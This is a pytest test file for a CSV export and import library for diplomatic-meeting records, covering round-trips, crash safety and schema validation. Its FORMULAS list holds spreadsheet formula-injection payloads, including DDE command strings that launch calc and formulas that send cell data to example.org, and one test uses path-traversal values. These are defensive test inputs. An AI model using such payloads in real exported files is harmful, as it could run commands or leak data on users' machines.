"""CSV loses nothing on the way out, and takes nothing else on the way in."""

from __future__ import annotations

import csv
import json
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import attrs
import frictionless
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.strategies import NASTY, meeting_lists, sample, texts

from diplo.errors import SchemaError
from diplo.formats.cells import Kind, read_cell, write_cell
from diplo.formats.csv import read_csv, write_csv
from diplo.formats.tables import TABLES
from diplo.model import Meeting, Person, Place, Source
from diplo.span import Span

FILES = {
    "commitments.csv",
    "datapackage.json",
    "meetings.csv",
    "mentioned.csv",
    "notes.csv",
    "participants.csv",
    "sources.csv",
    "statements.csv",
    "topics.csv",
}
FORMULAS = (
    "=1+1",
    '=LINK("x")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1",
    "＋1",
    "－1",
    "＠a",
    "\xa0=1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?x="&A1,"more")',
    '=IMPORTXML(CONCAT("https://example.org/?",A1),"//a")',
    "=WEBSERVICE(A1)",
    "=1+1;=2+2",
    '=1","=2',
    "=1\r\n=2",
    "--1",
)


def rows(file: Path) -> list[dict[str, str]]:
    """Return the rows of a table as the csv module reads them, by the names in its header."""
    with file.open(encoding="utf-8", newline="") as lines:
        return list(csv.DictReader(lines))


def written(folder: Path) -> Path:
    """Write the sample into a folder, and return it."""
    write_csv([sample()], folder)
    return folder


def contents(folder: Path) -> dict[str, bytes]:
    """Return the bytes of every file below a folder."""
    files = (path for path in folder.rglob("*") if path.is_file())
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in files}


def change(file: Path, number: int, column: str, cell: str) -> None:
    """Set a cell of a row, counted as a spreadsheet does."""
    table = rows(file)
    table[number - 2][column] = cell
    with file.open("w", encoding="utf-8", newline="") as lines:
        writer = csv.DictWriter(lines, list(table[0]))
        writer.writeheader()
        writer.writerows(table)


def refused(folder: Path) -> SchemaError:
    """Return the error with which the tables of a folder are refused."""
    with pytest.raises(SchemaError) as caught:
        read_csv(folder)
    return caught.value


@settings(max_examples=25, deadline=None)
@given(meeting_lists())
def test_meetings_come_back(many: list[Meeting]) -> None:
    """Meetings are read as they were written, in their order, the wording of their dates included."""
    with TemporaryDirectory() as folder:
        write_csv(iter(many), folder)
        found = read_csv(folder)

    assert found == tuple(many)
    assert [attrs.asdict(meeting) for meeting in found] == [attrs.asdict(meeting) for meeting in many]


@pytest.mark.parametrize("text", [*NASTY, *FORMULAS], ids=ascii)
def test_any_text_comes_back(text: str, tmp_path: Path) -> None:
    """Whatever a text holds, in an id, a field or a list, it is kept."""
    person = Person(name=text, aliases=(text, text))
    meeting = Meeting(id=text, title=text, mentioned=(person,), source=Source(text=text, url=text))

    write_csv([meeting], tmp_path)

    assert read_csv(tmp_path) == (meeting,)


@given(texts())
def test_cell_holds_any_text(text: str) -> None:
    """A cell keeps every text, has no NUL and no half of a surrogate pair, and is never empty."""
    cell = write_cell(text, Kind.TEXT)

    assert read_cell(cell, Kind.TEXT) == text
    assert cell.encode()
    assert "\x00" not in cell


@given(st.lists(texts()))
def test_cell_holds_any_list(members: list[str]) -> None:
    """A cell keeps every list of texts, and splits at each semicolon into as many."""
    cell = write_cell(members, Kind.LIST)

    assert read_cell(cell, Kind.LIST) == members
    assert len(cell.split(";")) == max(len(members), 1)


@pytest.mark.parametrize(
    ("value", "kind", "cell"),
    [
        (None, Kind.TEXT, ""),
        ("", Kind.TEXT, "'"),
        ("'", Kind.TEXT, "''"),
        ("C:\\users", Kind.TEXT, "C:\\users"),
        ("a\\u0041", Kind.TEXT, "a\\u005cu0041"),
        ("a\x00", Kind.TEXT, "a\\u0000"),
        ("a; b", Kind.TEXT, "a; b"),
        ([], Kind.LIST, ""),
        ([""], Kind.LIST, "'"),
        (["", ""], Kind.LIST, "';'"),
        (["a;b", "=c"], Kind.LIST, "a\\u003bb;'=c"),
        (["p1", "p2"], Kind.LIST, "p1;p2"),
        ([{"start": 0, "end": 8}, {"start": 10, "end": 12}], Kind.SPANS, "0..8;10..12"),
        (None, Kind.INTEGER, ""),
        (-3, Kind.INTEGER, "-3"),
        (-2.5, Kind.NUMBER, "-2.5"),
        (False, Kind.BOOLEAN, "false"),
    ],
    ids=repr,
)
def test_cell_reads_well(value: Any, kind: Kind, cell: str) -> None:
    """What is unknown, empty, guarded and escaped looks as the descriptor says."""
    assert write_cell(value, kind) == cell
    assert read_cell(cell, kind) == value


@pytest.mark.parametrize("cell", ["inf", "-inf", "nan", "1e999", "1.50", "1", "+1.5", " 1.5", "1_0.5", "x"])
def test_number_in_another_form_is_refused(cell: str) -> None:
    """A number stands as it is written, and what is not finite is none."""
    with pytest.raises(ValueError):  # noqa: PT011 - each cell fails in its own words
        read_cell(cell, Kind.NUMBER)


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_formula_is_harmless(formula: str, tmp_path: Path) -> None:
    """No cell starts as a formula does, wherever the text came from."""
    person = Person(name=formula, aliases=("x", formula))
    source = Source(text=formula, issuer=formula)

    write_csv([Meeting(id=formula, title=formula, mentioned=(person,), source=source)], tmp_path)

    cells = [cell for file in tmp_path.glob("*.csv") for row in rows(file) for cell in row.values() if cell]
    assert cells.count("'" + formula) == 6
    assert not [cell for cell in cells if cell.strip()[0] in "=+-@＝＋－＠"]
    assert rows(tmp_path / "mentioned.csv")[0]["aliases"].startswith(f"x;'{formula[:3]}")


def test_text_is_kept_once(tmp_path: Path) -> None:
    """Meetings that one text reports share its row; a text of more than 128 KiB is read again."""
    source = Source(text='line\n"quoted"\r\n' * 20000)
    many = tuple(Meeting(id=f"m{n}", source=source) for n in range(3))

    write_csv(many, tmp_path)

    assert read_csv(tmp_path) == many
    assert (tmp_path / "sources.csv").stat().st_size < 2 * len(source.text)


def test_place_of_which_nothing_is_known_is_no_missing_place(tmp_path: Path) -> None:
    """A place without a city, a country or a venue is kept apart from none."""
    many = tuple(
        Meeting(id=str(n), place=place, source=Source(text="")) for n, place in enumerate((None, Place()))
    )

    write_csv(many, tmp_path)

    assert read_csv(tmp_path) == many


def test_names_never_become_paths(tmp_path: Path) -> None:
    """The files have fixed names, and nothing else is left in the folder."""
    folder = tmp_path / "new" / "tables"

    write_csv([Meeting(id="../../up", title="/etc/x", source=Source(text="", url="file:///x"))], folder)

    assert {path.name for path in folder.iterdir()} == FILES
    assert [path.name for path in tmp_path.rglob("*up*")] == []


def test_links_are_replaced_and_not_followed(tmp_path: Path) -> None:
    """A table that is a link to a file elsewhere becomes a table, and the file elsewhere stays as it is."""
    elsewhere = tmp_path / "elsewhere.csv"
    elsewhere.write_text("kept", encoding="utf-8")
    folder = tmp_path / "tables"
    folder.mkdir()
    (folder / "topics.csv").symlink_to(elsewhere)

    written(folder)

    assert elsewhere.read_text(encoding="utf-8") == "kept"
    assert not (folder / "topics.csv").is_symlink()
    assert read_csv(folder) == (sample(),)


def test_writing_again_replaces_what_was_there(tmp_path: Path) -> None:
    """A folder holds what was written last, whole."""
    write_csv([sample(), Meeting(id="m2", source=Source(text=""))], tmp_path)
    write_csv([], tmp_path)

    assert read_csv(tmp_path) == ()


@pytest.mark.parametrize("renames", range(2 * len(FILES)))
def test_interrupt_leaves_the_older_tables(
    renames: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whenever writing is interrupted, before any rename, the older tables are all there and nothing else."""
    before = contents(written(tmp_path))
    replace = Path.replace
    calls: list[Path] = []

    def interrupted(self: Path, target: Path) -> Path:
        """Rename, but be interrupted once."""
        calls.append(target)
        if len(calls) == renames + 1:
            raise KeyboardInterrupt
        return replace(self, target)

    monkeypatch.setattr(Path, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_csv([], tmp_path)

    assert contents(tmp_path) == before
    assert read_csv(tmp_path) == (sample(),)


def test_full_disk_leaves_the_older_tables(tmp_path: Path) -> None:
    """A file that cannot be written to its end is an error, and the older tables are all there."""
    resource = pytest.importorskip("resource")
    before = contents(written(tmp_path))
    _, most = resource.getrlimit(resource.RLIMIT_FSIZE)
    signals = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (10_000, most))
    try:
        with pytest.raises(OSError, match="File too large"):
            write_csv([Meeting(id="m2", source=Source(text="x" * 20_000))], tmp_path)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (most, most))
        signal.signal(signal.SIGXFSZ, signals)

    assert contents(tmp_path) == before


@pytest.mark.parametrize("renames", [0, 1, 8, 9, 17])
def test_killed_writer_leaves_no_mixture(renames: int, tmp_path: Path) -> None:
    """After a kill the older tables are whole, or the reader refuses the folder; it never mixes two."""
    written(tmp_path)
    program = (
        "import os, pathlib, sys\n"
        "from diplo.formats.csv import write_csv\n"
        "replace, left = pathlib.Path.replace, [int(sys.argv[2])]\n"
        "def killed(self, target):\n"
        "    if not left[0]: os._exit(9)\n"
        "    left[0] -= 1\n"
        "    return replace(self, target)\n"
        "pathlib.Path.replace = killed\n"
        "write_csv([], sys.argv[1])\n"
    )
    done = subprocess.run([sys.executable, "-c", program, tmp_path, str(renames)], check=False)

    assert done.returncode == 9
    if renames:
        assert refused(tmp_path).path == "datapackage.json"
    else:
        assert read_csv(tmp_path) == (sample(),)
    write_csv([sample()], tmp_path)
    assert read_csv(tmp_path) == (sample(),)


def test_meeting_written_twice_is_an_error(tmp_path: Path) -> None:
    """Two meetings of one id could not be told apart, so nothing is written."""
    with pytest.raises(ValueError, match="'m1'"):
        write_csv([sample(), sample()], tmp_path / "tables")

    assert list(tmp_path.iterdir()) == []


def test_what_could_not_be_read_is_not_written(tmp_path: Path) -> None:
    """A meeting that breaks the rules of the reader is refused before anything is written."""
    faulty = attrs.evolve(sample(), notes=(attrs.evolve(sample().notes[0], span=Span(0, 10**6)),))

    with pytest.raises(SchemaError) as caught:
        write_csv([faulty], tmp_path / "tables")

    assert caught.value.path == "$.meetings[0].notes[0].span.end"
    assert list(tmp_path.iterdir()) == []


FAULTS = [
    ("meetings.csv, row 2, column id", "", "text, not empty"),
    ("meetings.csv, row 2, column source_id", "2", "a source_id of the sources"),
    ("meetings.csv, row 2, column source_id", "one", "a whole number"),
    ("meetings.csv, row 2, column source_id", "01", "a whole number"),
    ("meetings.csv, row 2, column format", "by_letter", "one of in_person, phone, video, unstated"),
    ("meetings.csv, row 2, column period_start", "12/03/2024", "a date as YYYY-MM-DD"),
    ("meetings.csv, row 2, column period_start", "", "a date as YYYY-MM-DD"),
    ("meetings.csv, row 2, column period_span_end", "101", "an offset within the text, at most 100"),
    ("meetings.csv, row 2, column has_place", "false", "true, for there are cells that tell of the place"),
    ("meetings.csv, row 2, column has_place", "yes", "true or false"),
    ("meetings.csv, row 2, column place_country_name", "", "text"),
    ("participants.csv, row 3, column meeting_id", "m2", "an id of the meetings"),
    ("participants.csv, row 3, column id", "p1", "an id that stands once in the meeting"),
    ("participants.csv, row 3, column office", "king", "one of head_of_state"),
    ("participants.csv, row 3, column principal", "True", "true or false"),
    ("participants.csv, row 3, column spans", "25-37", "spans as start..end joined by ;"),
    ("participants.csv, row 3, column spans", "37..25", "a span: start and end"),
    ("participants.csv, row 3, column spans", "25..101", "at most 100"),
    ("topics.csv, row 2, column id", "p2", "an id that stands once in the meeting"),
    ("topics.csv, row 2, column text", "", "text, not empty"),
    ("topics.csv, row 2, column sectors", "energy;weather", "one of bilateral_relations"),
    ("topics.csv, row 2, column raised_by", "p1;p9", "the id of a participant"),
    ("topics.csv, row 2, column span_start", "85.0", "a whole number from 0"),
    ("topics.csv, row 2, column span_start", "92", "a span: start and end, with 0 <= start <= end"),
    ("topics.csv, row 2, column span_end", "", "a whole number from 0, not empty"),
    ("commitments.csv, row 2, column count", "two", "a whole number"),
    ("commitments.csv, row 2, column due_start", "2024-07-01", "a period: start and end"),
    ("statements.csv, row 2, column addressees", "x", "the id of a participant"),
    ("mentioned.csv, row 2, column ordinal", "2", "1, the next in the meeting"),
    ("notes.csv, row 2, column span_end", "101", "at most 100"),
    ("sources.csv, row 2, column text", "", "text, not empty"),
    ("sources.csv, row 2, column published", "2024-13-01", "a date as YYYY-MM-DD"),
]


@pytest.mark.parametrize(("path", "cell", "expected"), FAULTS)
def test_fault_is_named_with_its_cell(path: str, cell: str, expected: str, tmp_path: Path) -> None:
    """What is wrong in a cell is refused, and the error says where, as a spreadsheet counts."""
    file, row, column = path.split(", ")
    change(written(tmp_path) / file, int(row.split()[1]), column.split()[1], cell)

    error = refused(tmp_path)

    assert error.path == path
    assert expected in error.expected
    assert path in str(error)


@settings(max_examples=30, deadline=None)
@given(st.data())
def test_any_cell_is_refused_or_read(data: st.DataObject) -> None:
    """Whatever stands in any cell, it is a `SchemaError` with its place, or meetings that can be written."""
    table = data.draw(st.sampled_from(TABLES))
    column = data.draw(st.sampled_from(table.columns))
    cell = data.draw(
        st.sampled_from((*NASTY, "1", "-1", "p1", "0..3", "3..0", "2024-02-30", "true", "energy"))
    )
    with TemporaryDirectory() as folder:
        change(written(Path(folder)) / table.file, 2, column.name, cell.encode(errors="ignore").decode())
        try:
            found = read_csv(folder)
        except SchemaError as error:
            assert ".csv, row " in error.path  # noqa: PT017 - reading may also succeed
        else:
            write_csv(found, folder)
            assert read_csv(folder) == found


@pytest.mark.parametrize("table", [table.name for table in TABLES])
def test_key_that_stands_twice_is_refused(table: str, tmp_path: Path) -> None:
    """A row that was copied is found in every table."""
    file = written(tmp_path) / f"{table}.csv"
    file.write_bytes(file.read_bytes() + file.read_bytes().split(b"\r\n")[-2] + b"\r\n")

    assert refused(tmp_path).path.startswith(f"{table}.csv, row {len(rows(file)) + 1}, column ")


def edited(old: str, new: str) -> Callable[[str], str]:
    """Return an edit that replaces the first occurrence of a string."""
    return lambda text: text.replace(old, new, 1)


@pytest.mark.parametrize(
    ("edit", "path", "value"),
    [
        (edited("raised_by", "raised"), "topics.csv, row 1, column raised", "raised"),
        (edited(",countries", ""), "topics.csv, row 1, column countries", attrs.NOTHING),
        (edited("rule\r\n", "rule,id\r\n"), "topics.csv, row 1, column id", "id"),
        (edited(",agreed_to", ""), "topics.csv, row 2", None),
        (edited("agreed_to\r\n", "agreed_to\r\n\r\n"), "topics.csv, row 3", [""]),
        (edited("a port", '"a port'), "topics.csv, row 2", None),
        (edited("a port", 'a "port"'), "topics.csv, row 2", None),
        (lambda _: "", "topics.csv, row 1, column meeting_id", attrs.NOTHING),
    ],
    ids=range(8),
)
def test_broken_table_is_refused(edit: Callable[[str], str], path: str, value: Any, tmp_path: Path) -> None:
    """Columns that are unknown, missing or doubled, torn rows and torn quotes are found."""
    file = written(tmp_path) / "topics.csv"
    text = file.read_bytes().decode()
    assert edit(text) != text
    file.write_bytes(edit(text).encode())

    error = refused(tmp_path)

    assert error.path == path
    assert value is None or error.value == value


@pytest.mark.parametrize("file", sorted(FILES))
def test_missing_file_is_named(file: str, tmp_path: Path) -> None:
    """Every file of the folder is needed."""
    (written(tmp_path) / file).unlink()

    error = refused(tmp_path)

    assert error.path == file
    assert error.value is attrs.NOTHING


def test_table_in_another_encoding_is_refused(tmp_path: Path) -> None:
    """A table that a spreadsheet has saved in its own encoding is not guessed at."""
    file = written(tmp_path) / "notes.csv"
    file.write_bytes(file.read_bytes().replace(b"of Portugal", "von Köln".encode("latin-1")))

    error = refused(tmp_path)

    assert error.path == "notes.csv"
    assert error.value == b"\xf6"


@pytest.mark.parametrize(("descriptor", "path"), [("{}", "$.schema_version"), ("", "$"), ("[]", "$")])
def test_descriptor_of_another_version_is_refused(descriptor: str, path: str, tmp_path: Path) -> None:
    """Tables that another version wrote are not read as if they were of this one."""
    (written(tmp_path) / "datapackage.json").write_text(descriptor, encoding="utf-8")

    assert refused(tmp_path).path == f"datapackage.json, {path}"


def test_tables_edited_in_a_spreadsheet_are_read(tmp_path: Path) -> None:
    """Another order of columns, quotes everywhere, bare line feeds and a mark before UTF-8 change nothing."""
    for file in written(tmp_path).glob("*.csv"):
        table = rows(file)
        with file.open("w", encoding="utf-8-sig", newline="") as lines:
            writer = csv.DictWriter(
                lines, sorted(table[0], reverse=True), quoting=csv.QUOTE_ALL, lineterminator="\n"
            )
            writer.writeheader()
            writer.writerows(table)

    assert read_csv(tmp_path) == (sample(),)


def test_descriptor_describes_every_column(tmp_path: Path) -> None:
    """The descriptor lists the columns of each file in their order, each with a sentence of its own."""
    package = json.loads((written(tmp_path) / "datapackage.json").read_text(encoding="utf-8"))

    assert {resource["path"] for resource in package["resources"]} == FILES - {"datapackage.json"}
    for resource in package["resources"]:
        fields = resource["schema"]["fields"]
        descriptions = [field["description"] for field in fields]
        assert [field["name"] for field in fields] == list(rows(tmp_path / resource["path"])[0])
        assert set(resource["schema"]["primaryKey"]) <= {field["name"] for field in fields}
        assert len(set(descriptions)) == len(descriptions)
        assert min(len(description) for description in descriptions) > 15


def test_descriptor_lists_the_values_of_enums(tmp_path: Path) -> None:
    """A program that reads the descriptor knows which words a column can hold."""
    package = json.loads((written(tmp_path) / "datapackage.json").read_text(encoding="utf-8"))
    meetings = next(resource for resource in package["resources"] if resource["name"] == "meetings")
    field = next(field for field in meetings["schema"]["fields"] if field["name"] == "format")

    assert field["constraints"] == {"required": True, "enum": ["in_person", "phone", "video", "unstated"]}


def test_frictionless_finds_the_package_valid(tmp_path: Path) -> None:
    """The tables keep what the descriptor promises, by the judgement of another program."""
    nasty = tuple(
        Meeting(id=f"m{text}", title=text, mentioned=(Person(name=text),), source=Source(text=text))
        for text in NASTY
    )
    write_csv([sample(), *nasty], tmp_path)

    report = frictionless.validate(str(tmp_path / "datapackage.json"))

    assert report.flatten(["rowNumber", "fieldName", "message"]) == []
    assert report.valid
